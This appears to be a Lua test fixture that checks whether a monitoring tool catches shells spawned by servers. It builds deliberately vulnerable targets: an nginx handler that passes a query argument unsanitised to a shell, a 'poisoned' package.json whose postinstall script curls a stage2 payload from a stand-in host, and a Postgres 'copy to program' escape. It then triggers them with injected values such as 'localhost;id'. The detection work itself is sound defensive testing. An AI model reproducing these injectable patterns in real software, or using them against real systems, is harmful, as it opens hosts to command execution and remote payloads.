-- Coming in through real servers.

---@type system.Acts
return {
  prepare = [[
mkdir -p /srv/web /srv/java /srv/package
cat >/srv/web/nginx.conf <<-END
	include /usr/share/nginx/modules-available/mod-http-ndk.conf;
	include /usr/share/nginx/modules-available/mod-http-lua.conf;
	daemon off;
	worker_processes 1;
	pid /srv/web/pid;
	events {}
	http {
		access_log off;
		server {
			listen 127.0.0.1:8099;
			location = /lookup {
				content_by_lua_block {
					local pipe = io.popen("getent hosts " .. ngx.unescape_uri(ngx.var.arg_host))
					ngx.print(pipe:read "a")
					pipe:close()
				}
			}
		}
	}
END

if command -v java; then
	compiler='ecj -proc:none'
	if command -v javac; then compiler=javac; fi
	$compiler -source 11 -target 11 -d /srv/java tests/system/programs/Hole.java
fi

echo '{ "name": "poisoned", "version": "1.0.0", "scripts": { "postinstall": "curl -s http://203.0.113.9/stage2" } }' \
	>/srv/package/package.json
# Debian's npm is hundreds of packages; without it, what it does.
if command -v node && ! command -v npm; then
	cat >/opt/tools/npm <<-END
		#!/usr/bin/env node
		const script = require(process.cwd() + "/package.json").scripts.postinstall;
		require("child_process").spawnSync("sh", ["-c", script], { stdio: "inherit" });
	END
	chmod +x /opt/tools/npm
fi

# A database of its own, and what asks it as its own user.
for bin in /usr/lib/postgresql/*/bin; do :; done
if [ -x "$bin/initdb" ]; then
	user=$(id -un postgres || echo nobody)
	mkdir /srv/pg
	chown $user /srv/pg
	cat >/opt/tools/database <<-END
		#!/bin/sh
		program=\$1
		shift
		exec setpriv --reuid $user --regid $(id -g $user) --clear-groups $bin/\$program "\$@"
	END
	chmod +x /opt/tools/database
	database initdb -D /srv/pg -A trust -N
fi
]],

  { "java_child", "java -Xmx32m -XX:+UseSerialGC -cp /srv/java Hole id", needs = "java", says = "started /bin/sh -c id" },
  { "npm_install_network", "cd /srv/package; npm install --offline --no-audit --no-fund --no-update-notifier", needs = "node",
    says = "ran curl -s http://203.0.113.9/stage2", also = { package_manager = "npm install itself" } },
  { "shell_from_database", [[echo "copy (select 1) to program 'cat >/dev/null; id'" | database postgres --single -D /srv/pg postgres]],
    needs = "/usr/lib/postgresql/*/bin/initdb", says = "postgres started sh -c cat >/dev/null; id as " },
  -- The shell, and the two programs that it runs.
  { "shell_from_web_server", [[
nginx -c /srv/web/nginx.conf &
until curl -s "http://127.0.0.1:8099/lookup?host=localhost;id"; do sleep 0.1; done
kill $!
wait $!
]], needs = "nginx", says = "a web server stands behind it", times = { shell_from_web_server = 3 } },
}
